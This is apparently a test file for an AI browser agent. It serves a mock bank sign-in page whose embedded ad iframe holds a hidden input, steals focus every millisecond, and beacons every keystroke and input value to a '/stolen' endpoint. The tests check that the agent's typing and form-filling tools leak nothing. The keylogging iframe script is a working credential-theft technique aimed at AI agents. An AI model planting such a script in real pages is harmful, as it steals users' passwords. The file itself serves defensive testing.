// A frame of another site takes the focus every millisecond to get what is typed into the page around it.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Agent, BrowserStage } from '../browser/stage.ts';

const bank = (other: string) => `<!doctype html><title>Bank</title><h1>Sign in</h1>
<label>Password <input id="password" type="password"></label><label>Note <input id="note"></label>
<iframe src="${other}/ad" width="300" height="60"></iframe>`;

/** Sends every key and text that it gets. */
const ad = `<!doctype html><title>Ad</title><input id="field" style="opacity: .01"><script>
for (const type of ['keydown', 'beforeinput', 'input'])
  addEventListener(type, (event) => navigator.sendBeacon('/stolen', [type, event.key ?? event.data, field.value].join(' ')), true);
setInterval(() => field.focus(), 1);</script>`;

/** To be called in a `describe`. */
export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: number): void {
  const stolen: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/stolen') {
      request.setEncoding('utf8').on('data', (what: string) => stolen.push(what));
      request.on('end', () => response.end());
      return;
    }
    const { port } = server.address() as AddressInfo;
    const page = request.url === '/ad' ? ad : bank(`http://localhost:${port}`);
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
  });
  let stage: BrowserStage;
  let agent: Agent;

  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, resolve));
    stage = await BrowserStage.open(engine);
    agent = await stage.agent();
    await agent.goTo(`http://127.0.0.1:${(server.address() as AddressInfo).port}/bank`);
  });

  afterAll(async () => {
    await stage?.close();
    server.close();
    server.closeAllConnections();
  });

  it(`gets nothing of ${tries} typed secrets, which all go into their fields`, async () => {
    for (let at = 0; at < tries; at += 1) {
      const [name, id] = at % 2 === 0 ? ['Password', 'password'] : ['Note', 'note'];
      const { facts } = await agent.call('type', { ref: agent.ref(name), text: `secret-${at}` });
      expect(facts).toMatchObject({ target: expect.stringContaining(name) });
      expect(await agent.value(`document.getElementById('${id}').value`)).toBe(`secret-${at}`);
    }
    expect(stolen).toEqual([]);
  }, 120_000);

  it('gets no key and nothing of a form', async () => {
    for (let at = 0; at < 20; at += 1) {
      const fields = [
        { ref: agent.ref('Password'), value: `filled-${at}` },
        { ref: agent.ref('Note'), value: `note-${at}` },
      ];
      await agent.call('fill_form', { fields });
      expect(await agent.value('[password.value, note.value]')).toEqual([`filled-${at}`, `note-${at}`]);
      const pressed = await agent.call('press_key', { ref: agent.ref('Note'), key: at % 2 === 0 ? 'x' : 'Backspace' });
      if (engine === 'chromium' && at % 2 === 0) expect(pressed.text).toContain('a frame of another site in this tab');
    }
    expect(stolen).toEqual([]);
  }, 120_000);
}
